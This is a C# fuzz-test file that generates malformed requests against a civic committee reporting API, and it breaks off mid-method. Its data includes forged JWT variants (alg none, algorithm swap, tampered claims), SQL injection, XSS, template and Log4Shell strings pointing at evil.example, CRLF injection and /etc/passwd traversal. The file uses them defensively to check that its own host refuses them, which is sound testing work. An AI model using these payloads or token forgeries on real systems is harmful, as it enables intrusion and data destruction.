using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using CommitteeGrid.Host.Security;

namespace CommitteeGrid.Api.Tests.Security;

/// <summary>
/// One generated request: what it is, why it must fail (its defect), and the bytes it sends.
/// <see cref="MustRefuse"/>: a state-changing request that has to be answered 4xx (every one the generator
/// makes is, by construction: at least one defect that the host refuses, or a step its state forbids).
/// </summary>
public sealed record HostileRequest(
    int Number,
    string Defect,
    string Method,
    string Path,
    string? Authorization,
    IReadOnlyList<string> IdempotencyKeys,
    byte[]? Body,
    string? ContentType,
    bool MustRefuse)
{
    /// <summary>A Cookie header to send (the sign-in cookie serves GETs only).</summary>
    public string? Cookie { get; init; }

    public HttpRequestMessage ToMessage()
    {
        var request = new HttpRequestMessage(new HttpMethod(Method), Path);
        if (Authorization is not null)
        {
            request.Headers.TryAddWithoutValidation("Authorization", Authorization);
        }

        if (Cookie is not null)
        {
            request.Headers.TryAddWithoutValidation("Cookie", Cookie);
        }

        foreach (var key in IdempotencyKeys)
        {
            request.Headers.TryAddWithoutValidation("Idempotency-Key", key);
        }

        if (Body is not null)
        {
            request.Content = new ByteArrayContent(Body);
            if (ContentType is not null)
            {
                request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }

        return request;
    }

    public override string ToString()
    {
        var body = Body is null ? "(no body)" : Body.Length > 300 ? $"{Preview(Body[..300])}… ({Body.Length} bytes)" : Preview(Body);
        var auth = Authorization is null ? "none" : Authorization.Length > 40 ? Authorization[..40] + "…" : Authorization;
        return $"#{Number} [{Defect}] {Method} {(Path.Length > 200 ? Path[..200] + "…" : Path)} auth={auth}{(Cookie is null ? "" : " cookie=…")} keys=[{string.Join(" | ", IdempotencyKeys.Select(k => k.Length > 40 ? k[..40] + "…" : k))}] type={ContentType ?? "none"} body={body}";
    }

    private static string Preview(byte[] bytes) => JsonSerializer.Serialize(Encoding.UTF8.GetString(bytes));
}

/// <summary>What the generated requests name: a signed-in root staff token, forged tokens, and things in known states.</summary>
public sealed class FuzzWorld
{
    public const string Lead = "420607-M0001";
    public const string County = "420607";

    public required string RootToken { get; init; }

    public required string MemberToken { get; init; }

    /// <summary>Tokens the host must refuse with 401, by name.</summary>
    public required IReadOnlyList<(string Name, string Value)> BadAuthorizations { get; init; }

    /// <summary>Adopted by the county: adopting again is refused.</summary>
    public required string AdoptedReport { get; init; }

    /// <summary>Submitted, never returned: a revision is refused.</summary>
    public required string FreshReport { get; init; }

    /// <summary>Withdrawn: every further step is refused.</summary>
    public required string WithdrawnProposal { get; init; }

    /// <summary>A member's own report, confirmed by the group: confirming again is refused.</summary>
    public required string ConfirmedDuty { get; init; }

    public required string Webhook { get; init; }

    /// <summary>Makes the things above through the API as the root committee's staff (they count in the ledger before the run starts).</summary>
    public static async Task<FuzzWorld> Prepare(HttpClient http, SigningKey key)
    {
        var issuer = new TokenIssuer(key, TimeProvider.System, TimeSpan.FromHours(2));
        var root = issuer.Issue("staff-CN", "staff", "CN").Token;
        var today = DateTimeOffset.UtcNow.ToOffset(TimeSpan.FromHours(8)).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);

        async Task<JsonNode> Post(string path, object body)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, path) { Content = new StringContent(JsonSerializer.Serialize(body), Encoding.UTF8, "application/json") };
            request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", root);
            request.Headers.Add("Idempotency-Key", Guid.NewGuid().ToString("N"));
            using var response = await http.SendAsync(request);
            var text = await response.Content.ReadAsStringAsync();
            if (!response.IsSuccessStatusCode)
            {
                throw new InvalidOperationException($"preparing the fuzz run: POST {path} answered {(int)response.StatusCode} {text}");
            }

            return JsonNode.Parse(text)!;
        }

        var adopted = (await Post("api/reports", new { author = Lead, title = "模糊测试：已采用", body = "正文" }))["reportId"]!.GetValue<string>();
        await Post($"api/reports/{adopted}/actions", new { committee = County, action = "adopt" });
        var fresh = (await Post("api/reports", new { author = "420607-M0002", title = "模糊测试：新报告", body = "正文" }))["reportId"]!.GetValue<string>();
        var proposal = (await Post("api/proposals", new { lead = Lead, title = "模糊测试：已撤回", body = "正文" }))["proposalId"]!.GetValue<string>();
        await Post($"api/proposals/{proposal}/withdrawal", new { lead = Lead, reason = "测试" });
        var duty = (await Post("api/duty-records", new { kind = "household", title = "模糊测试：走访", date = today, member = Lead }))["recordId"]!.GetValue<string>();
        await Post($"api/duty-records/{duty}/confirmation", new { group = "420607-G01", confirm = true });
        var webhook = (await Post($"api/units/{County}/webhooks", new { url = "https://hooks.example.org/fuzz", events = new[] { "duty.rejected" } }))["webhook"]!["id"]!.GetValue<string>();

        return new FuzzWorld
        {
            RootToken = root,
            MemberToken = issuer.Issue(Lead, "member", Lead).Token,
            BadAuthorizations = BadTokens(key, root),
            AdoptedReport = adopted,
            FreshReport = fresh,
            WithdrawnProposal = proposal,
            ConfirmedDuty = duty,
            Webhook = webhook,
        };
    }

    private static List<(string, string)> BadTokens(SigningKey key, string valid)
    {
        var expired = new TokenIssuer(key, new FixedClock(DateTimeOffset.UtcNow.AddHours(-5)), TimeSpan.FromHours(1)).Issue("staff-CN", "staff", "CN").Token;
        var otherKey = new TokenIssuer(new SigningKey(Encoding.UTF8.GetBytes(new string('f', 48)), generated: false), TimeProvider.System, TimeSpan.FromHours(1))
            .Issue("staff-CN", "staff", "CN").Token;
        var parts = valid.Split('.');
        var claims = JsonNode.Parse(FromBase64Url(parts[1]))!;
        claims["cg_scope"] = "510000";
        claims["role"] = "operator";
        var tampered = $"{parts[0]}.{Base64Url(claims.ToJsonString())}.{parts[2]}";
        var unsigned = $"{Base64Url("""{"alg":"none","typ":"JWT"}""")}.{parts[1]}.";
        var hs512 = $"{Base64Url("""{"alg":"HS512","typ":"JWT"}""")}.{parts[1]}.{parts[2]}";
        return
        [
            ("expired", $"Bearer {expired}"),
            ("signed with another key", $"Bearer {otherKey}"),
            ("alg none", $"Bearer {unsigned}"),
            ("alg changed", $"Bearer {hs512}"),
            ("payload tampered", $"Bearer {tampered}"),
            ("signature cut", $"Bearer {parts[0]}.{parts[1]}."),
            ("garbage", "Bearer not.a.token"),
            ("empty bearer", "Bearer "),
            ("basic scheme", "Basic c3RhZmYtQ046cGFzc3dvcmQ="),
            ("token without scheme", valid),
            ("sql in token", "Bearer ' OR '1'='1"),
        ];
    }

    private static string Base64Url(string json) => Convert.ToBase64String(Encoding.UTF8.GetBytes(json)).TrimEnd('=').Replace('+', '-').Replace('/', '_');

    private static string FromBase64Url(string part)
    {
        var padded = part.Replace('-', '+').Replace('_', '/');
        return Encoding.UTF8.GetString(Convert.FromBase64String(padded + new string('=', (4 - (padded.Length % 4)) % 4)));
    }

    private sealed class FixedClock(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }
}

/// <summary>
/// A seeded generator of malformed and hostile requests over every state-changing and reading endpoint.
/// The same seed gives the same requests, so a failure names its seed and request number and is repeated
/// by running with that seed. State-changing requests always carry a defect the host must refuse (or act on
/// something whose state forbids the step), so none of them may change anything.
/// </summary>
public sealed class HostileRequestGenerator(int seed, FuzzWorld world)
{
    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE cg_ledger; --", "\"; DELETE FROM cg_users; --", "1; SELECT pg_sleep(5)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}",
        "a\u0000b", "\u0000", "\u202Eevil\u202C", "\u200B\u200D\uFEFF", "\r\nX-Injected: 1", "line\u0007bell",
        "../../../etc/passwd", "%00%0d%0a", "%s%s%s%n", "😀🏛️🇨🇳", "null", "undefined", "NaN", "-0", "[]", "{}",
        "{\"$gt\":\"\"}", "Robert'); --", new string('长', 2_000), new string('x', 5_000),
    ];

    private static readonly string[] BadCodes =
    [
        "ZZ404", "420607-M9999", "999999", "CN-", "../CN", "420607/../CN", "' OR '1'='1", "<script>", "420607%00", "４２０６０７",
        "P00000000000000000000", "", " ", new string('9', 41), "420607\n", "CN;DROP TABLE x",
    ];

    private static readonly string[] BadYears = ["1999", "2101", "abc", "2026.0", "-2026", "+2026", "２０２６", "99999999999", "", "2026;--", "1e3"];

    private static readonly string[] BadKeys = ["", " ", new string('k', 101), "has space", "ключ", "tab\tkey", "key\u007f"];

    private static readonly string[] BadContentTypes = ["text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=x", "image/png"];

    // Raw UTF-8 on the wire (not \\u escapes), as most clients send it.
    private static readonly JsonSerializerOptions Raw = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private readonly Random _random = new(seed);

    public int Seed => seed;

    public IEnumerable<HostileRequest> Generate(int count)
    {
        var templates = Templates();
        var reads = templates.Where(t => t.Method == "GET").ToList();
        var changes = templates.Where(t => t.Method != "GET").ToList();
        for (var n = 0; n < count; n++)
        {
            // Changes are where a refusal must leave nothing behind: they get most of the requests.
            yield return _random.NextDouble() < 0.35 ? Read(n, Pick(reads)) : Change(n, Pick(changes));
        }
    }

    // ---- state-changing requests ----

    private HostileRequest Change(int n, Template t)
    {
        var body = t.Body?.Invoke();
        var noise = body is not null && _random.NextDouble() < 0.6 ? Noise(body, t) : "";
        var auth = $"Bearer {(_random.NextDouble() < 0.15 ? world.MemberToken : world.RootToken)}";
        List<string> keys = [$"fuzz-{seed}-{n}"];
        var path = t.Path(this);
        string? contentType = "application/json";
        string? cookie = null;
        byte[]? bytes = null;
        string defect;

        // A step the state forbids needs no further defect; the rest get one of these at least.
        var choice = t.BaseRefused && _random.NextDouble() < 0.25 ? -1 : _random.Next(body is null ? 3 : 8);
        switch (choice)
        {
            case -1:
                defect = $"state forbids it{noise}";
                break;
            case 0:
                var bad = Pick(world.BadAuthorizations);
                var roll = _random.NextDouble();
                auth = roll < 0.3 ? null : bad.Value;
                cookie = roll < 0.15 ? $"cg_token={world.RootToken}" : null;
                defect = cookie is not null ? "a valid token only in the cookie" : auth is null ? "no token" : $"token: {bad.Name}";
                if (t.Anonymous)
                {
                    // Login and logout take no token: only their own defects count.
                    defect += " (open endpoint)";
                }

                break;
            case 1 when t.NeedsKey:
                keys = _random.NextDouble() < 0.25 ? [] : _random.NextDouble() < 0.3 ? [$"a-{n}", $"b-{n}"] : [Pick(BadKeys)];
                defect = keys.Count == 0 ? "no Idempotency-Key" : keys.Count > 1 ? "two Idempotency-Keys" : $"bad Idempotency-Key '{Shorten(keys[0])}'";
                break;
            case 2 when t.CodeInPath is not null:
                path = t.Path(this).Replace(t.CodeInPath, Uri.EscapeDataString(Pick(BadCodes)), StringComparison.Ordinal);
                defect = "unknown or malformed code in the path";
                break;
            case 3:
                (bytes, contentType, defect) = BrokenBody(body);
                break;
            case 4:
                contentType = _random.NextDouble() < 0.2 ? null : Pick(BadContentTypes);
                defect = $"content type {contentType ?? "missing"}";
                break;
            case 5 when body is not null:
                var extra = Pick(["priority", "__proto__", "constructor", "$where", "isAdmin", "role", "scope", "actor", "id", "version"]);
                body[extra] = Value();
                defect = $"unknown field '{extra}'";
                break;
            case 6 when body is not null && t.Fields.Count > 0:
                defect = WrongType(body, t);
                break;
            case 7 when body is not null:
                defect = FieldDefect(body, t);
                break;
            default:
                // A choice the template cannot take (no key, no code in its path): a bad token always refuses.
                var fallback = Pick(world.BadAuthorizations);
                auth = fallback.Value;
                defect = $"token: {fallback.Name}";
                break;
        }

        if (t.Anonymous && !t.BaseRefused)
        {
            throw new InvalidOperationException($"{t.Path(this)}: an open endpoint's base request must itself be refused");
        }

        bytes ??= body is null ? null : Encoding.UTF8.GetBytes(body.ToJsonString(Raw));
        var mustRefuse = !t.AnyAnswer;
        return new HostileRequest(n, defect + (choice == -1 ? "" : noise), t.Method, path, auth, t.NeedsKey || t.Method != "GET" ? keys : [], bytes, contentType, mustRefuse) { Cookie = cookie };
    }

    private (byte[]? Bytes, string? ContentType, string Defect) BrokenBody(JsonObject? body)
    {
        var json = body?.ToJsonString(Raw) ?? "{}";
        switch (_random.Next(12))
        {
            case 0: return (null, null, "no body");
            case 1: return ([], "application/json", "empty body");
            case 2: return ("   \n\t "u8.ToArray(), "application/json", "whitespace body");
            case 3:
                var at = json.IndexOf(":\"", StringComparison.Ordinal);
                var utf8 = Encoding.UTF8.GetBytes(json).ToList();
                utf8.InsertRange(at < 0 ? 1 : Encoding.UTF8.GetByteCount(json[..(at + 2)]), _random.NextDouble() < 0.5 ? [0xFF, 0xFE] : [0xC3, 0x28]);
                return ([.. utf8], "application/json", "invalid UTF-8");
            case 4:
                var size = 65_537 + _random.Next(200_000);
                return (Encoding.UTF8.GetBytes($"{{\"title\":\"{new string('x', size)}\"}}"), "application/json", $"body over 64 KiB ({size} characters)");
            case 5: return (Encoding.UTF8.GetBytes(Pick(["[]", $"[{json}]", "\"text\"", "42", "null", "true", "-1e999"])), "application/json", "not a JSON object");
            case 6: return (Encoding.UTF8.GetBytes(json[..Math.Max(1, _random.Next(json.Length))]), "application/json", "truncated JSON");
            case 7: return (Encoding.UTF8.GetBytes(json + Pick([" x", "}", ",", "{}", "\u0000"])), "application/json", "trailing garbage");
            case 8: return (Encoding.UTF8.GetBytes(json.Length > 2 ? json.Insert(1, json[1..^1] + ",") : json), "application/json", "every field twice");
            case 9: return (Encoding.UTF8.GetBytes(json.Replace('"', '\'')), "application/json", "single-quoted JSON");
            case 10: return (Encoding.UTF8.GetBytes("/* c */" + json), "application/json", "JSON with a comment");
            default: return (Encoding.UTF8.GetBytes(new string('[', 2_000) + new string(']', 2_000)), "application/json", "nested 2,000 deep");
        }
    }

    private string WrongType(JsonObject body, Template t)
    {
        var field = Pick(t.Fields);
        JsonNode replacement = field.Kind switch
        {
            Kind.Codes or Kind.Strings => Pick<JsonNode>([JsonValue.Create("420607-M0002"), JsonValue.Create(7), new JsonObject { ["a"] = 1 }]),
            Kind.Bool => Pick<JsonNode>([JsonValue.Create("true"), JsonValue.Create(1), new JsonArray()]),
            Kind.Int => Pick<JsonNode>([JsonValue.Create(true), new JsonArray(1), new JsonObject(), JsonValue.Create(1.5)]),
            Kind.Date or Kind.Instant => Pick<JsonNode>([JsonValue.Create(20260101), JsonValue.Create(true), new JsonObject { ["y"] = 2026 }, JsonValue.Create("yesterday"), JsonValue.Create("2026-13-45"), JsonValue.Create("2026-02-30T25:00:00+08:00")]),
            _ => Pick<JsonNode>([JsonValue.Create(420607), JsonValue.Create(false), new JsonObject { ["zh"] = "x" }, new JsonArray("x")]),
        };
        body[field.Name] = replacement;
        return $"'{field.Name}' of the wrong type ({replacement.ToJsonString()})";
    }

    private string FieldDefect(JsonObject body, Template t)
    {
        var required = t.Fields.Where(f => f.Required).ToList();
        var codes = t.Fields.Where(f => f.Kind is Kind.Code or Kind.Codes).ToList();
        var limited = t.Fields.Where(f => f.Kind == Kind.Text && f.Limit > 0).ToList();
        var dated = t.Fields.Where(f => f.Kind is Kind.Date or Kind.Instant).ToList();
        var options = new List<Func<string>>();
        if (required.Count > 0)
        {
            options.Add(() =>
            {
                var f = Pick(required);
                if (_random.NextDouble() < 0.3)
                {
                    body[f.Name] = null;
                    return $"required '{f.Name}' is null";
                }

                body.Remove(f.Name);
                return $"required '{f.Name}' missing";
            });
        }

        if (codes.Count > 0)
        {
            options.Add(() =>
            {
                var f = Pick(codes);
                var code = Pick(BadCodes);
                body[f.Name] = f.Kind == Kind.Codes ? new JsonArray(JsonValue.Create(code)) : JsonValue.Create(code);
                return $"'{f.Name}' names '{Shorten(code)}', which is no such unit";
            });
        }

        if (limited.Count > 0)
        {
            options.Add(() =>
            {
                var f = Pick(limited);
                var text = new string(Pick(['长', 'x', '\u202E']), f.Limit + 1 + _random.Next(f.Limit));
                body[f.Name] = text;
                return $"'{f.Name}' of {text.Length} characters (limit {f.Limit})";
            });
        }

        if (dated.Count > 0)
        {
            options.Add(() =>
            {
                var f = Pick(dated);
                var value = f.Kind == Kind.Date ? Pick(["1999-01-01", "2101-01-01", "0001-01-01", "9999-12-31"]) : Pick(["1999-01-01T00:00:00+08:00", "2101-01-01T00:00:00+08:00", "9999-12-31T23:59:59+00:00"]);
                body[f.Name] = value;
                return $"'{f.Name}' out of range ({value})";
            });
        }

        options.Add(() =>
        {
            var enums = t.Fields.Where(f => f.Kind == Kind.Enum).ToList();
            if (enums.Count == 0)
            {
                // Nothing enumerated: a field the endpoint does not know.
                body["unexpected"] = "x";
                return "unknown field 'unexpected'";
            }

            var f = Pick(enums);
            var value = Pick(["approve", "ADOPT", "Register", "", " adopt", "adopt ", "delete", "0", "<script>"]);
            body[f.Name] = value;
            return $"'{f.Name}' is '{value}', not one of its words";
        });
        return options[_random.Next(options.Count)]();
    }

    /// <summary>Injection strings in text fields: never the defect that refuses, only what rides along.</summary>
    private string Noise(JsonObject body, Template t)
    {
        var texts = t.Fields.Where(f => f.Kind == Kind.Text && body.ContainsKey(f.Name)).ToList();
        if (texts.Count == 0)
        {
            return "";
        }

        var f = Pick(texts);
        var value = Pick(Injections);
        body[f.Name] = value;
        return $"; '{f.Name}' = {Shorten(JsonSerializer.Serialize(value))}";
    }

    // ---- reads ----

    private HostileRequest Read(int n, Template t)
    {
        var path = t.Path(this);
        var query = new List<string>();
        var defects = new List<string>();
        foreach (var parameter in t.Query)
        {
            var roll = _random.NextDouble();
            if (roll < 0.4)
            {
                continue;
            }

            var value = parameter switch
            {
                "year" => roll < 0.6 ? "2026" : Pick(BadYears),
                "asOf" => Pick(["2026-01-31", "2026-13-01", "2101-01-01", "1999-12-31", "yesterday", "' OR 1=1"]),
                "limit" => Pick(["1", "0", "-5", "abc", "10.5", "99999999999", "1001"]),
                "after" => Pick(["0", "-1", "abc", "99999999999999999999"]),
                "from" or "to" => Pick(["2026-01-01", "yesterday", "2026-02-30", "9999-12-31T00:00:00Z"]),
                _ => Pick(Injections.Take(20).Append("true").Append("").ToArray()),
            };
            query.Add($"{parameter}={Uri.EscapeDataString(value)}");
            defects.Add($"{parameter}={Shorten(value)}");
        }

        if (t.CodeInPath is not null && _random.NextDouble() < 0.3)
        {
            var code = Pick(BadCodes);
            path = path.Replace(t.CodeInPath, Uri.EscapeDataString(code), StringComparison.Ordinal);
            defects.Add($"code '{Shorten(code)}'");
        }

        var auth = $"Bearer {(_random.NextDouble() < 0.2 ? world.MemberToken : world.RootToken)}";
        if (_random.NextDouble() < 0.15)
        {
            var bad = Pick(world.BadAuthorizations);
            auth = bad.Value;
            defects.Add($"token: {bad.Name}");
        }

        var full = query.Count == 0 ? path : $"{path}?{string.Join('&', query)}";
        return new HostileRequest(n, defects.Count == 0 ? "plain read" : string.Join(", ", defects), "GET", full, auth, [], null, null, MustRefuse: false);
    }

    // ---- the endpoints ----

    private List<Template> Templates()
    {
        const string Xz = FuzzWorld.County;
        string Year() => _random.NextDouble() < 0.8 ? "2026" : Pick(BadYears);
        string Id(string valid, char prefix) => _random.NextDouble() < 0.7 ? valid : Pick([$"{prefix}00000000000000000000", $"{prefix}{new string('g', 20)}", $"{prefix}1", "../x", "' OR 1=1", new string('R', 300)]);
        var member = Field.Code("author", required: true);
        return
        [
            // Reports.
            new("POST", _ => "api/reports", () => new JsonObject { ["author"] = FuzzWorld.Lead, ["coAuthors"] = new JsonArray("420607-M0003"), ["title"] = "关于路灯的建议", ["body"] = "正文" },
                [member, Field.Codes("coAuthors"), Field.Text("title", 100, required: true), Field.Text("body", 1500, required: true)]),
            new("POST", _ => $"api/reports/{world.AdoptedReport}/actions", () => new JsonObject { ["committee"] = Xz, ["action"] = "adopt", ["note"] = "再次采用" },
                [Field.Code("committee", required: true), Field.Enum("action", required: true), Field.Text("note", 500), Field.Text("reason", 500), Field.Text("leaderTitle", 50), Field.Date("date")], BaseRefused: true),
            new("POST", _ => $"api/reports/{world.FreshReport}/revision", () => new JsonObject { ["author"] = "420607-M0002", ["title"] = "修改稿", ["body"] = "正文" },
                [Field.Code("author", required: true), Field.Text("title", 100, required: true), Field.Text("body", 1500, required: true)], BaseRefused: true),

            // Proposals: a new draft, and every step on a withdrawn one.
            new("POST", _ => "api/proposals", () => new JsonObject { ["lead"] = FuzzWorld.Lead, ["title"] = "关于供水的提案", ["body"] = "正文" },
                [Field.Code("lead", required: true), Field.Text("title", 100, required: true), Field.Text("body", 10_000, required: true)]),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/invitations", () => new JsonObject { ["lead"] = FuzzWorld.Lead, ["members"] = new JsonArray("420607-M0004"), ["deadline"] = DateTimeOffset.UtcNow.AddDays(3).ToString("O") },
                [Field.Code("lead", required: true), Field.Codes("members"), Field.Instant("deadline")], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/signatures", () => new JsonObject { ["member"] = "420607-M0004", ["accept"] = true },
                [Field.Code("member", required: true), Field.Bool("accept", required: true)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/submission", () => new JsonObject { ["lead"] = FuzzWorld.Lead }, [Field.Code("lead", required: true)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/withdrawal", () => new JsonObject { ["lead"] = FuzzWorld.Lead, ["reason"] = "再撤一次" },
                [Field.Code("lead", required: true), Field.Text("reason", 500)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/review", () => new JsonObject { ["committee"] = Xz, ["action"] = "register", ["reason"] = "立案" },
                [Field.Code("committee", required: true), Field.Enum("action", required: true), Field.Text("reason", 500), Field.Code("into"), Field.Text("leadingLeader", 50), Field.Bool("toReport"), Field.Text("reportBody", 1500)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/assignment", () => new JsonObject { ["committee"] = Xz, ["leadUnit"] = "420607-H02", ["coUnits"] = new JsonArray("420607-H05"), ["dueDate"] = "2027-02-28" },
                [Field.Code("committee", required: true), Field.Code("leadUnit", required: true), Field.Codes("coUnits"), Field.Date("dueDate")], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/answers", () => new JsonObject { ["unit"] = "420607-H02", ["class"] = "A", ["text"] = "已解决" },
                [Field.Code("unit", required: true), Field.Enum("class"), Field.Text("text", 10_000)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/handback", () => new JsonObject { ["unit"] = "420607-H02", ["reason"] = "不属于本单位职责" },
                [Field.Code("unit", required: true), Field.Text("reason", 500)], BaseRefused: true),
            new("POST", _ => $"api/proposals/{world.WithdrawnProposal}/ratings", () => new JsonObject { ["member"] = FuzzWorld.Lead, ["rating"] = "satisfied" },
                [Field.Code("member", required: true), Field.Enum("rating", required: true)], BaseRefused: true),

            // Duty records.
            new("POST", _ => "api/duty-records", () => new JsonObject { ["kind"] = "household", ["title"] = "走访群众", ["date"] = DateTimeOffset.UtcNow.ToOffset(TimeSpan.FromHours(8)).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture), ["member"] = "420607-M0005" },
                [Field.Enum("kind", required: true), Field.Text("title", 100), Field.Date("date", required: true), Field.Code("member"), Field.Int("count")]),
            new("POST", _ => $"api/duty-records/{world.ConfirmedDuty}/confirmation", () => new JsonObject { ["group"] = "420607-G01", ["confirm"] = true, ["reason"] = "属实" },
                [Field.Code("group", required: true), Field.Bool("confirm", required: true), Field.Text("reason", 500)], BaseRefused: true),

            // Notifications, webhooks, scoring rules.
            new("POST", _ => $"api/feeds/{FuzzWorld.Lead}/read", () => new JsonObject { ["through"] = 0 }, [Field.Int("through", required: true)], CodeInPath: FuzzWorld.Lead),
            new("POST", _ => $"api/units/{Xz}/webhooks", () => new JsonObject { ["url"] = "https://hooks.example.org/fuzz-new", ["events"] = new JsonArray("report.*") },
                [Field.Code("url", required: true), Field.Strings("events")], CodeInPath: Xz),
            new("DELETE", _ => $"api/units/{Xz}/webhooks/{(_random.NextDouble() < 0.5 ? "W0000000000000000" : Pick(["W1", "' OR 1=1", "../../x", world.Webhook + "0"]))}", null, [], BaseRefused: true, CodeInPath: Xz),
            new("PUT", _ => $"api/committees/{Xz}/scoring-rules/{Year()}", () => new JsonObject
            {
                ["name"] = "模糊测试规则", ["source"] = "测试", ["maxTotal"] = 100, ["memberItems"] = new JsonArray(), ["unitItems"] = new JsonArray(),
                ["grades"] = new JsonArray(), ["unitGrades"] = new JsonArray(), ["expectedVersion"] = 999,
            }, [Field.Text("name", 100), Field.Text("source", 500)], BaseRefused: true, CodeInPath: Xz),

            // Signing in: never with a real password, so always refused; signing out answers anything.
            new("POST", _ => "api/auth/login", () => new JsonObject { ["name"] = "fuzz-nobody", ["password"] = "wrong password" },
                [Field.Text("name", 100, required: true), Field.Text("password", 200, required: true)], BaseRefused: true, Anonymous: true),
            new("POST", _ => "api/auth/logout", null, [], BaseRefused: true, Anonymous: true, AnyAnswer: true),

            // Reads.
            Get("api/network"),
            Get("api/auth/me"),
            Get($"api/units/{Xz}", Xz),
            Get($"api/units/{Xz}/tally", Xz, "year"),
            Get($"api/units/{Xz}/score", Xz, "year", "asOf", "assessor"),
            Get($"api/units/{Xz}/ranking", Xz, "year", "asOf", "of", "by", "perCapita", "limit", "assessor"),
            Get($"api/units/{Xz}/trend", Xz, "year"),
            Get($"api/units/{Xz}/six-ones", Xz, "year"),
            Get($"api/units/{Xz}/audit", Xz, "from", "to", "limit"),
            Get($"api/units/{Xz}/live", Xz, "year"),
            Get($"api/members/{FuzzWorld.Lead}/reports", FuzzWorld.Lead, "year", "limit"),
            Get($"api/verify/{Xz}", Xz, "year"),
            Get($"api/committees/{Xz}/inbox", Xz, "status", "limit"),
            Get($"api/committees/{Xz}/proposals", Xz, "status", "session", "overdue", "limit"),
            Get($"api/committees/{Xz}/sessions", Xz),
            Get($"api/committees/{Xz}/handling-units", Xz),
            Get("api/handling-units/420607-H02", "420607-H02", "all"),
            Get($"api/committees/{Xz}/bulletin", Xz, "year", "asOf", "format"),
            Get($"api/committees/{Xz}/scoring-rules/2026", Xz),
            Get($"api/committees/{Xz}/scoring-rules/2026/versions", Xz),
            new("GET", _ => $"api/committees/{Xz}/scoring-rules/{Year()}/versions/{Pick(["1", "0", "-1", "abc", "99999999999"])}", null, [], CodeInPath: Xz),
            Get("api/groups/420607-G01/duty-records", "420607-G01", "status", "member", "limit"),
            Get($"api/feeds/{FuzzWorld.Lead}", FuzzWorld.Lead, "after", "limit"),
            Get($"api/feeds/{FuzzWorld.Lead}/live", FuzzWorld.Lead, "after"),
            Get($"api/units/{Xz}/webhooks", Xz),
            new("GET", _ => $"api/units/{Xz}/webhooks/{Id(world.Webhook, 'W')}", null, [], CodeInPath: Xz),
            new("GET", _ => $"api/units/{Xz}/webhooks/{Id(world.Webhook, 'W')}/deliveries?limit={Pick(["1", "0", "201", "x"])}", null, [], CodeInPath: Xz),
            new("GET", _ => $"api/reports/{Id(world.AdoptedReport, 'R')}", null, []),
            new("GET", _ => $"api/proposals/{Id(world.WithdrawnProposal, 'P')}", null, []),
            new("GET", _ => $"api/duty-records/{Id(world.ConfirmedDuty, 'D')}", null, []),
        ];
    }

    private static Template Get(string path, string? code = null, params string[] query) => new("GET", _ => path, null, [], CodeInPath: code) { Query = query };

    private T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    private JsonNode? Value() => Pick<JsonNode?>([JsonValue.Create("x"), JsonValue.Create(1), JsonValue.Create(true), null, new JsonObject(), new JsonArray()]);

    private static string Shorten(string text) => text.Length > 30 ? text[..30] + "…" : text;

    private enum Kind
    {
        Code,
        Codes,
        Text,
        Strings,
        Enum,
        Bool,
        Int,
        Date,
        Instant,
    }

    private sealed record Field(string Name, Kind Kind, bool Required, int Limit)
    {
        public static Field Code(string name, bool required = false) => new(name, Kind.Code, required, 0);

        public static Field Codes(string name) => new(name, Kind.Codes, false, 0);

        public static Field Strings(string name) => new(name, Kind.Strings, false, 0);

        public static Field Text(string name, int limit, bool required = false) => new(name, Kind.Text, required, limit);

        public static Field Enum(string name, bool required = false) => new(name, Kind.Enum, required, 0);

        public static Field Bool(string name, bool required = false) => new(name, Kind.Bool, required, 0);

        public static Field Int(string name, bool required = false) => new(name, Kind.Int, required, 0);

        public static Field Date(string name, bool required = false) => new(name, Kind.Date, required, 0);

        public static Field Instant(string name) => new(name, Kind.Instant, false, 0);
    }

    /// <param name="BaseRefused">The unmutated request is itself refused (an illegal step, a wrong password).</param>
    /// <param name="Anonymous">The endpoint takes no token (login, logout).</param>
    /// <param name="AnyAnswer">Any answer but a 5xx will do (logout, which changes nothing).</param>
    private sealed record Template(
        string Method,
        Func<HostileRequestGenerator, string> Path,
        Func<JsonObject>? Body,
        IReadOnlyList<Field> Fields,
        bool BaseRefused = false,
        string? CodeInPath = null,
        bool Anonymous = false,
        bool AnyAnswer = false)
    {
        public IReadOnlyList<string> Query { get; init; } = [];

        public bool NeedsKey => !Anonymous;
    }
}

/// <summary>What the host answered to one generated request (or why there was no answer).</summary>
public sealed record FuzzOutcome(HostileRequest Request, int Status, string? MediaType, string? Detail, string? Error);

/// <summary>Sends generated requests, several at a time, and judges the answers.</summary>
public static class FuzzRunner
{
    /// <summary>A client that sends header values as UTF-8 bytes, so non-ASCII keys reach the host instead of being stopped here.</summary>
    public static HttpClient NewClient(Uri baseAddress) =>
        new(new SocketsHttpHandler { RequestHeaderEncodingSelector = (_, _) => Encoding.UTF8 }) { BaseAddress = baseAddress, Timeout = TimeSpan.FromSeconds(60) };

    public static async Task<IReadOnlyList<FuzzOutcome>> Run(HttpClient http, IEnumerable<HostileRequest> requests, int parallelism)
    {
